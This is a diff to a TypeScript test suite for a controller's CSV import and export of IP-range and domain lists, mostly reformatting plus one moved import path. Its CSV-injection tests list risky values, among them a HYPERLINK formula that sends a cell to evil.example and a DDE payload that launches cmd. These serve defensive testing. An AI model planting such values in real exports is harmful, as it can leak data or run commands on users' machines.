@@ -1,6 +1,6 @@
 import { monitorEventLoopDelay } from "node:perf_hooks";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { parseEntryCsv } from "../../../packages/controller/src/services/csv.js";
+import { parseEntryCsv } from "../../../packages/controller/src/services/route-lists/csv.js";
 import { startTestController, type TestController } from "../../helpers/controller.js";
 import { auditOf, createModule, expectStatus, mintKey } from "./helpers.js";
 
@@ -36,7 +36,8 @@ describe("CSV - round trip", () => {
     const m = await createModule(t, t.rootKey, { name: "big", type: "IP_RANGES" });
     const rows: string[][] = [["cidr", "comment"]];
     for (let i = 0; i < 100_000; i++) {
-      const cidr = i % 4 === 3 ? `2001:db8:${(i >> 16).toString(16)}:${(i & 0xffff).toString(16)}::/64` : `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}/32`;
+      const cidr =
+        i % 4 === 3 ? `2001:db8:${(i >> 16).toString(16)}:${(i & 0xffff).toString(16)}::/64` : `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}/32`;
       const special = i % 1000;
       const comment = special === 0 ? "has, a comma" : special === 1 ? 'says "hi"' : special === 2 ? "two\r\nlines" : special === 3 ? "" : `row ${i}`;
       rows.push([cidr, comment]);
@@ -89,11 +90,24 @@ describe("CSV - round trip", () => {
 describe("CSV - import modes", () => {
   async function seeded(name: string) {
     const m = await createModule(t, t.rootKey, { name, type: "IP_RANGES" });
-    const res = await importCsv(m.id, csv([["cidr", "comment"], ["10.0.0.0/8", "a"], ["10.1.0.0/16", "b"], ["10.2.0.0/16", "c"]]));
+    const res = await importCsv(
+      m.id,
+      csv([
+        ["cidr", "comment"],
+        ["10.0.0.0/8", "a"],
+        ["10.1.0.0/16", "b"],
+        ["10.2.0.0/16", "c"],
+      ]),
+    );
     expect(res.json()).toMatchObject({ created: 3 });
     return m.id as string;
   }
-  const file = csv([["cidr", "comment"], ["10.1.0.0/16", "b2"], ["10.2.0.0/16", "c"], ["10.3.0.0/16", "d"]]);
+  const file = csv([
+    ["cidr", "comment"],
+    ["10.1.0.0/16", "b2"],
+    ["10.2.0.0/16", "c"],
+    ["10.3.0.0/16", "d"],
+  ]);
   const state = async (m: string) => (await entries(m, "ip-range-entries")).map((e) => `${e.cidr}=${e.comment}`).sort();
 
   it("csv - merge adds and updates, keeping the rest", async () => {
@@ -139,7 +153,15 @@ describe("CSV - import modes", () => {
 
   it("csv - values are normalised as in the JSON API and the import is audited once", async () => {
     const m = await seeded("normalised");
-    const res = await importCsv(m, csv([["cidr", "comment"], ["2001:DB8:0:0::/32", "v6"], ["192.0.2.1", "host"], [" 10.0.0.0/8 ", "a"]]));
+    const res = await importCsv(
+      m,
+      csv([
+        ["cidr", "comment"],
+        ["2001:DB8:0:0::/32", "v6"],
+        ["192.0.2.1", "host"],
+        [" 10.0.0.0/8 ", "a"],
+      ]),
+    );
     expect(res.json()).toEqual({ created: 2, updated: 0, deleted: 0, unchanged: 1, errors: [] });
     expect(await state(m)).toContain("2001:db8::/32=v6");
     expect(await state(m)).toContain("192.0.2.1/32=host");
@@ -156,7 +178,7 @@ describe("CSV - import modes", () => {
 describe("CSV - DOMAINS and AS_PREFIXES", () => {
   it("csv - domains: header, IDN, include_subdomains, export", async () => {
     const m = await createModule(t, t.rootKey, { name: "csv-domains", type: "DOMAINS" });
-    const body = "domain,include_subdomains,comment\nBücher.example.,true,books\nexample.com,,\nexample.org,FALSE,\"quoted, comment\"\n";
+    const body = 'domain,include_subdomains,comment\nBücher.example.,true,books\nexample.com,,\nexample.org,FALSE,"quoted, comment"\n';
     const res = await importCsv(m.id, body);
     expect(res.json()).toEqual({ created: 3, updated: 0, deleted: 0, unchanged: 0, errors: [] });
     const out = await exportCsv(m.id);
@@ -209,11 +231,11 @@ describe("CSV - malformed files", () => {
   });
 
   it("csv - lines are counted through quoted line breaks; stray quotes and extra fields are bad rows", async () => {
-    const body = ['cidr,comment', '10.0.0.0/8,"one', 'two"', '10.1.0.0/16,ok"bad', '10.2.0.0/16,"closed"junk', '10.3.0.0/16,a,b', "10.4.0.0/33,x"].join("\n");
+    const body = ["cidr,comment", '10.0.0.0/8,"one', 'two"', '10.1.0.0/16,ok"bad', '10.2.0.0/16,"closed"junk', "10.3.0.0/16,a,b", "10.4.0.0/33,x"].join("\n");
     const res = await importCsv(m, body);
     expect(res.statusCode).toBe(400);
     expect(res.json().errors.map((e: { line: number; value: string }) => [e.line, e.value])).toEqual([
-      [4, "10.1.0.0/16,ok\"bad"],
+      [4, '10.1.0.0/16,ok"bad'],
       [5, '10.2.0.0/16,"closed"junk'],
       [6, "10.3.0.0/16"],
       [7, "10.4.0.0/33"],
@@ -265,7 +287,15 @@ describe("CSV - malformed files", () => {
 });
 
 describe("CSV - formulas (CSV injection)", () => {
-  const risky = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tleading tab", "\rleading CR", "'=quoted already"];
+  const risky = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\tleading tab",
+    "\rleading CR",
+    "'=quoted already",
+  ];
 
   it("csv - comments a spreadsheet would run come out with a ' in front, and read back as they were", async () => {
     const m = await createModule(t, t.rootKey, { name: "csv-formulas", type: "IP_RANGES" });
@@ -292,7 +322,16 @@ describe("CSV - formulas (CSV injection)", () => {
 
   it("csv - an import whose comment starts a formula is refused with its line", async () => {
     const m = await createModule(t, t.rootKey, { name: "csv-formulas-in", type: "IP_RANGES" });
-    const res = await importCsv(m.id, csv([["cidr", "comment"], ["10.0.0.0/8", "fine - really"], ["10.1.0.0/16", "=1+1"], ["10.2.0.0/16", "@cmd"], ["10.3.0.0/16", "'=1+1"]]));
+    const res = await importCsv(
+      m.id,
+      csv([
+        ["cidr", "comment"],
+        ["10.0.0.0/8", "fine - really"],
+        ["10.1.0.0/16", "=1+1"],
+        ["10.2.0.0/16", "@cmd"],
+        ["10.3.0.0/16", "'=1+1"],
+      ]),
+    );
     expect(res.statusCode).toBe(400);
     expect(res.json().errors).toEqual([
       { path: "line.3", line: 3, value: "10.1.0.0/16", message: expect.stringContaining("formula") },
